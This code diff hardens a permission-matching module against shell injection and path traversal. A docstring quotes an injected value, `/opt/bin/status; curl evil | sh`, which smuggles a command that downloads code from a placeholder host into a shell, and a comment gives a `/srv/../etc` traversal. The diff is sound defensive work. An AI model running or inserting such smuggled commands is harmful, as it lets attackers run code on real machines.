@@ -12,6 +12,8 @@ from typing import Literal
 from urllib.parse import unquote
 
 _SPACE, _DELETE = 0x20, 0x7F
+_IN_A_URL = re.compile(r"[\s;|$`<>\"'*(){}\\]")
+_IN_A_SHELL = re.compile(_IN_A_URL.pattern[:-1] + "&?]")
 
 Scalar = str | int | float | bool | None
 Operator = Literal["equals", "prefix", "one_of"]
@@ -36,6 +38,7 @@ class Condition:
                 isinstance(value, str)
                 and isinstance(prefix, str)
                 and value.startswith(prefix)
+                and not _does_more(value[len(prefix) :], is_url="://" in prefix)
                 and not _climbs(value[len(prefix) :])
             )
         return _canonical(value) in {_canonical(each) for each in self.values}
@@ -91,15 +94,24 @@ def _words(condition: Condition) -> str:
             return f"{condition.arg} is one of {', '.join(map(_canonical, condition.values))}"
 
 
+def _does_more(rest: str, *, is_url: bool) -> bool:
+    """Whether a value may be more than one place: `/opt/bin/` must not cover `/opt/bin/status; curl evil | sh`.
+
+    A tool may hand any text to a shell, so what one would act on is not covered; a URL may have several parameters.
+    """
+    return bool((_IN_A_URL if is_url else _IN_A_SHELL).search(rest))
+
+
 def _climbs(rest: str) -> bool:
     """Whether the rest of a path may leave what its prefix names: `/srv/` must not cover `/srv/../etc`.
 
-    Neither in the ways a URL may write it: percent-encoded (once or twice), or with a tab or line break, which are
+    Neither in the ways a URL may write it: percent-encoded (however often), or with a tab or line break, which are
     left out when a URL is read (WHATWG URL, "remove all ASCII tab or newline").
     """
     if any(ord(char) < _SPACE or ord(char) == _DELETE for char in rest):
         return True
-    return any(".." in re.split(r"[/\\]", each) for each in (rest, unquote(rest), unquote(unquote(rest))))
+    read = unquote(rest)
+    return ".." in re.split(r"[/\\]", rest) or (read != rest and _climbs(read))
 
 
 def _canonical(value: object) -> str:
